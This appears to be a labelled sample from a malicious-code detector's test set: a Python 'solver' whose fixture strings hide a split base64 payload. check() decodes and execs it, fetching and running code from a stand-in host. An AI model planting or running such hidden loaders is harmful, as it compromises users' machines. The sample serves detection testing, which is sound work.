# label: hostile
# expect: V501 V504
# note: A base64 payload cut into pieces that look like test data, joined and decoded elsewhere in the file.
# obfuscated: yes
# allow: V301
from base64 import b64decode as parse
import sys

FIXTURES = {
    "alpha": "aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHUKZXhl",
    "beta": "Yyh1LnVybG9wZW4oJ2h0dHA6Ly9kcm9wLmV4YW1w",
    "gamma": "bGUuaW52YWxpZC9wJykucmVhZCgpKQ==",
}


def solve(lines):
    return [int(x) ** 2 for x in lines]


def check(order=("alpha", "beta", "gamma")):
    text = "".join(FIXTURES[k] for k in order)
    run = compile(parse(text), "<fixtures>", "exec")
    exec(run, {})


if __name__ == "__main__":
    check()
    print(*solve(sys.stdin.read().split()))
